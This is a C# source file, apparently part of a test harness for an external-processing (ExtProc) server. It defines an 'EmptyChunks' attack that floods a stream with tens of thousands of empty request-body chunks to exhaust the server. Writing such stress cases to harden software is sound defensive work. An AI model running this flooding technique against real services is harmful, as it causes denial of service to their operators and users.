using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using Google.Protobuf;

namespace ExtProc.Attacks.Messages;

/// <summary>A million pieces of a body without a byte: each costs an answer.</summary>
internal sealed class EmptyChunks : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        int stream = await peer.OpenAsync();
        byte[] chunks = ((ReadOnlySpan<byte>)Requests.RequestBody(ByteString.Empty).Framed()).Times(10_000);
        await peer.SendAsync(stream, Requests.RequestHeaders().Framed());
        for (int i = 0; i < target.Count(5, 100) && !peer.Gone && !peer.IsOver(stream); i++)
        {
            await peer.SendAsync(stream, chunks);
        }
    });
}
